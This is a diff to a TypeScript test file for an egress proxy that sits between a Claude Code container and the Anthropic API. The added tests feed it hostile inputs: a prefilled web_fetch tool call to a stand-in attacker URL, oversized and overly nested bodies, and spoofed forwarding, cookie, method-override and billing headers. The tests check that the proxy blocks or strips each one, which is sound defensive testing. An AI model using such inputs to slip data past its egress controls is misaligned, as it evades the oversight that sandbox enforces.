@@ -6,7 +6,7 @@
  * checked; bodies are read only up to the limit; replies stream through.
  */
 import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
-import { MAX_INSPECTED_BODY_BYTES } from "../../worker/src/egress/anthropic-rules.js";
+import { MAX_BODY_DEPTH, MAX_BODY_VALUES, MAX_INSPECTED_BODY_BYTES } from "../../worker/src/egress/anthropic-rules.js";
 import { forwardToAnthropic } from "../../worker/src/egress/anthropic-door.js";
 import { CREDENTIAL_PLACEHOLDER } from "../../worker/src/tasks/claude-command.js";
 import { type EnvOverrides, envWith, OAUTH_TOKEN } from "./helpers.js";
@@ -88,6 +88,19 @@ const HOSTILE: [string, HostileShape][] = [
       code: "content_source_not_allowed",
     },
   ],
+  [
+    "an assistant prefill of the web_fetch server tool",
+    {
+      path: "/v1/messages?beta=true",
+      body: message({
+        messages: [
+          { role: "user", content: "Go on" },
+          { role: "assistant", content: [{ type: "server_tool_use", id: "srvtoolu_1", name: "web_fetch", input: { url: `${ATTACKER}secret` } }] },
+        ],
+      }),
+      code: "tool_not_allowed",
+    },
+  ],
   ["a message batch", { path: "/v1/messages/batches", body: JSON.stringify({ requests: [] }), code: "route_not_allowed" }],
   ["a batch by a dot-dot path", { path: "/v1/messages/x/../batches", body: "{}", code: "route_not_allowed" }],
   ["a batch by an encoded slash", { path: "/v1/messages%2Fbatches", body: "{}", code: "route_not_allowed" }],
@@ -106,6 +119,14 @@ const HOSTILE: [string, HostileShape][] = [
   [
     "a body the API would decompress",
     { path: "/v1/messages", headers: { "content-encoding": "gzip" }, body: "\u001f\u008b\u0008\u0000", code: "body_not_json" },
+  ],
+  [
+    "a body nested deeper than the door parses",
+    { path: "/v1/messages", body: message({ metadata: JSON.parse(`${"[".repeat(MAX_BODY_DEPTH)}${"]".repeat(MAX_BODY_DEPTH)}`) }), code: "body_too_deep", status: 400 },
+  ],
+  [
+    "a body of more values than the door parses",
+    { path: "/v1/messages", body: message({ metadata: Array.from({ length: MAX_BODY_VALUES }, () => 0) }), code: "body_too_many_values", status: 413 },
   ],
   [
     "a declared body over the limit",
@@ -173,6 +194,56 @@ describe.each(CREDENTIALS)("with %s", (_kind, env, credential) => {
     expect(forwarded!.headers.get("anthropic-version")).toBe("2023-06-01");
     expect(forwarded!.headers.get("content-type")).toBe("application/json");
     expect(JSON.parse(await forwarded!.text())).toEqual(JSON.parse(message()));
+  });
+});
+
+describe("headers", () => {
+  /** Headers Claude Code sends (the recording's, with the values of one of its requests). */
+  const CLAUDE_CODE_HEADERS: Record<string, string> = {
+    accept: "application/json",
+    "accept-encoding": "gzip, deflate, br, zstd",
+    "anthropic-dangerous-direct-browser-access": "true",
+    "anthropic-version": "2023-06-01",
+    "user-agent": "claude-cli/2.1.332 (external, cli)",
+    "x-app": "cli",
+    "x-claude-code-session-id": "4c2e7a61-0b8e-4f0c-9d57-1c1e2b3a4d5e",
+    "x-stainless-arch": "x64",
+    "x-stainless-lang": "js",
+    "x-stainless-os": "Linux",
+    "x-stainless-package-version": "0.70.0",
+    "x-stainless-retry-count": "0",
+    "x-stainless-runtime": "node",
+    "x-stainless-runtime-version": "v24.3.0",
+    "x-stainless-timeout": "600",
+  };
+  /** Headers a process in the container might add to steer a proxy, the API or anything between. */
+  const HOSTILE_HEADERS: Record<string, string> = {
+    "x-forwarded-host": "attacker.example",
+    "x-forwarded-for": "10.0.0.1",
+    "x-forwarded-proto": "http",
+    forwarded: "for=10.0.0.1;host=attacker.example",
+    "x-original-url": "/v1/files",
+    "x-rewrite-url": "/v1/messages/batches",
+    "x-http-method-override": "DELETE",
+    "x-real-ip": "127.0.0.1",
+    "cf-connecting-ip": "127.0.0.1",
+    cookie: "session=stolen",
+    "proxy-authorization": "Basic eDp5",
+    origin: "https://attacker.example",
+    referer: "https://attacker.example/",
+    "anthropic-organization-id": "org_attacker",
+    "x-anthropic-billing-header": "attacker",
+  };
+
+  it.each(CREDENTIALS)("forwards only the headers Claude Code sends, with %s", async (_kind, env) => {
+    const request = containerRequest("/v1/messages?beta=true", { body: message(), headers: { ...CLAUDE_CODE_HEADERS, ...HOSTILE_HEADERS } });
+    const response = await forwardToAnthropic(request, envWith(env), send);
+    expect(response.status).toBe(200);
+    const forwarded = Object.fromEntries(sent[0]!.headers);
+    for (const name of Object.keys(HOSTILE_HEADERS)) expect(forwarded).not.toHaveProperty(name);
+    for (const [name, value] of Object.entries(CLAUDE_CODE_HEADERS)) expect(forwarded[name]).toBe(value);
+    const credentialHeader = env.ANTHROPIC_API_KEY === undefined ? "authorization" : "x-api-key";
+    expect(Object.keys(forwarded).sort()).toEqual([...Object.keys(CLAUDE_CODE_HEADERS), credentialHeader, "content-type"].sort());
   });
 });
 
